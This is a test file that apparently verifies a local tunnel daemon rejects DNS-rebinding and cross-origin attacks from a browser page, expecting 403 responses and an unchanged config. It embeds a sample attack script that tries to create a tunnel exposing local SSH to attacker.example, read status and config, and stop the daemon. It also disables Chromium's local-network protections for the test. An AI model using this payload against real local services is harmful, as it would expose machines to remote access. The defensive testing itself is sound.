// DNS rebinding and cross-origin requests, end to end in headless Chromium against the
// built daemon. Chromium resolves evil.example to 127.0.0.1 (--host-resolver-rules),
// as a rebound name would. The attack page is served as the attacker's server would
// have served it at http://evil.example:<daemon port>/ before the name was rebound
// (page.route answers that one navigation); every request the page then makes goes
// to the daemon itself, same-origin, so the browser lets the page read the answers:
// only the daemon's Host check stands in the way. A second page, on another port of
// evil.example, tries the "simple" cross-origin requests that need no preflight.
import http from 'node:http';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { chromium, type Browser } from 'playwright-core';
import { port, startDaemon, type Daemon } from '../daemon-harness.js';

const CHROMIUM = '/usr/bin/chromium';

// What the attacker's page tries: add a tunnel that publishes the local sshd on its
// server, read the status, stop everything. Each result is the status it saw, or the
// error the browser gave.
const ATTACK = `
const tunnel = { name: 'exfil', remote_host: 'attacker.example', remote_port: '2222', local_port: '22', direction: 'local_to_remote' };
async function attempt(path, init) {
  try {
    const r = await fetch(path, init);
    return { status: r.status, body: (await r.text()).slice(0, 2000) };
  } catch (e) {
    return { error: String(e) };
  }
}
window.results = (async (base) => ({
  add: await attempt(base + '/config/new', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(tunnel) }),
  addPlain: await attempt(base + '/config/new', { method: 'POST', headers: { 'content-type': 'text/plain' }, body: JSON.stringify(tunnel) }),
  status: await attempt(base + '/status', {}),
  config: await attempt(base + '/config', {}),
  stop: await attempt(base + '/stop', { method: 'POST' }),
  models: await attempt(base + '/v1/models', {}),
}))(window.BASE);
`;

let d: Daemon;
let sshDir: string;
let browser: Browser;
let other: http.Server;
let fileBefore: string;

beforeAll(async () => {
  sshDir = mkdtempSync(join(tmpdir(), 'tm-rebind-ssh-'));
  writeFileSync(join(sshDir, 'config'), '', { mode: 0o600 });
  const config = `tunnels:\n  - name: db\n    remote_host: nowhere.invalid\n    remote_port: 5432\n    local_port: "127.0.0.1:${await port()}"\n`;
  d = await startDaemon({ config, sshConfigPath: join(sshDir, 'config') });
  fileBefore = readFileSync(d.configPath, 'utf8');
  // The attacker's second server, on another port of the same name.
  other = http.createServer((_req, res) => res.writeHead(200, { 'content-type': 'text/html' }).end(`<!doctype html><title>cross</title><script>window.BASE = 'http://evil.example:${d.apiPort}';${ATTACK}</script>`));
  await new Promise<void>((r) => other.listen(0, '127.0.0.1', r));
  browser = await chromium.launch({
    executablePath: CHROMIUM,
    args: [
      '--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update', '--no-first-run', '--disable-sync', '--disable-quic',
      '--host-resolver-rules=MAP evil.example 127.0.0.1',
      // Newer Chromium blocks a public page's requests to loopback on its own (Local
      // Network Access); other browsers and older versions do not. Turned off, so that
      // what is tested is the daemon's defence, not the browser's.
      '--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests,PrivateNetworkAccessSendPreflights,PrivateNetworkAccessRespectPreflightResults',
    ],
  });
}, 60_000);

afterAll(async () => {
  await browser?.close();
  other?.close();
  await d?.cleanup();
  rmSync(sshDir, { recursive: true, force: true });
});

type Results = Record<string, { status?: number; body?: string; error?: string }>;

describe('a web page cannot drive the daemon', () => {
  it('after rebinding (same origin, the page reads every answer): every request gets 403, nothing is written', async () => {
    const page = await browser.newPage();
    const origin = `http://evil.example:${d.apiPort}`;
    // The document itself, as the attacker's server gave it before the rebinding.
    await page.route(`${origin}/`, (route) => route.fulfill({ status: 200, contentType: 'text/html', body: `<!doctype html><title>rebound</title><script>window.BASE = '';${ATTACK}</script>` }));
    await page.goto(`${origin}/`);
    const results = (await page.evaluate('window.results')) as Results;
    for (const [what, r] of Object.entries(results)) {
      // A status (not a network error) shows the request reached the daemon and the page could read the answer.
      expect({ what, status: r.status, error: r.error }).toEqual({ what, status: 403, error: undefined });
      expect(r.body).toContain('host_not_allowed');
    }
    await page.close();
  });

  it('from another origin (no preflight for simple requests): refused, nothing is written, nothing can be read', async () => {
    const page = await browser.newPage();
    // What reached the daemon and what it answered, as the browser's network layer saw
    // it before CORS hid the answer from the page.
    const seen: { url: string; status: number }[] = [];
    const urls = new Map<string, string>();
    const cdp = await page.context().newCDPSession(page);
    cdp.on('Network.requestWillBeSent', (e) => urls.set(e.requestId, e.request.url));
    cdp.on('Network.responseReceivedExtraInfo', (e) => seen.push({ url: urls.get(e.requestId) ?? '', status: e.statusCode }));
    await cdp.send('Network.enable');
    await page.goto(`http://evil.example:${(other.address() as AddressInfo).port}/`);
    const results = (await page.evaluate('window.results')) as Results;
    // The browser shows the page no answer (no CORS headers), so each is an error to it.
    for (const [what, r] of Object.entries(results)) expect({ what, readable: r.status !== undefined }).toEqual({ what, readable: false });
    // Those that reached the daemon (the simple ones) were refused there.
    const toDaemon = seen.filter((s) => s.url.startsWith(`http://evil.example:${d.apiPort}/`));
    expect(toDaemon.length).toBeGreaterThan(0);
    for (const s of toDaemon) expect(s).toMatchObject({ status: 403 });
    await page.close();
  });

  it('the config file and the tunnels are as they were', async () => {
    expect(readFileSync(d.configPath, 'utf8')).toBe(fileBefore);
    const list = await d.json<{ name: string }[]>('/list');
    expect(list.map((t) => t.name)).toEqual(['db']);
    const status = await d.json<{ name: string; status: string }[]>('/status');
    expect(status[0]!.status).not.toBe('STOPPED');
  });
});
